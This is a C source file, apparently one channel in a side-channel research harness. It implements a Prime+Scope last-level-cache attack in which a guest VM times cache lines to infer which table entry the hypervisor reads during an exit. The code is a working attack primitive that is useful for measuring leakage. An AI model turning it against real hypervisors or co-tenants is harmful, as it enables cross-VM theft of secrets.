/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Channel l2-prime-probe: which line of a table the hypervisor reads while it handles an exit.
 *
 * Prime+Probe on the last-level cache (Liu, Yarom, Ge, Heiser, Lee, Last-Level Cache Side-Channel
 * Attacks are Practical, S&P 2015) in the form of Prime+Scope (Purnal, Turan, Verbauwhede, CCS
 * 2021): the eviction set of each candidate set is read in an order that leaves a known line next
 * to go, and after the call that one line alone is timed. The observation is the set whose line was
 * gone.
 */
#include "leak.h"

enum { SYMBOLS = 4 };

static uint8_t *line(uint64_t set, uint64_t way)
{
    return leak_memory() + way * WAY_BYTES + LEAK_TABLE_SET(set) * LINE;
}

/* Twice: whatever order the set was in, line 0 is its oldest afterwards, and in no first-level way.
 */
static void prime(uint64_t set)
{
    for (unsigned turn = 0; turn < 2; turn++) {
        for (uint64_t way = 0; way < leak_parameters.ways; way++) {
            leak_touch(line(set, way));
        }
    }
}

static uint64_t scope(void)
{
    uint64_t slowest = 0;
    uint64_t longest = 0;

    for (uint64_t set = 0; set < SYMBOLS; set++) {
        const uint64_t time = leak_time(line(set, 0));

        if (time > longest) {
            longest = time;
            slowest = set;
        }
    }
    return slowest;
}

void guest_main(void)
{
    for (uint64_t i = 0; i < leak_parameters.symbols; i++) {
        for (uint64_t set = 0; set < SYMBOLS; set++) {
            prime(set);
        }
        (void)leak_call(LEAK_TABLE, SYMBOLS);
        leak_record(scope());
    }
    leak_report();
}
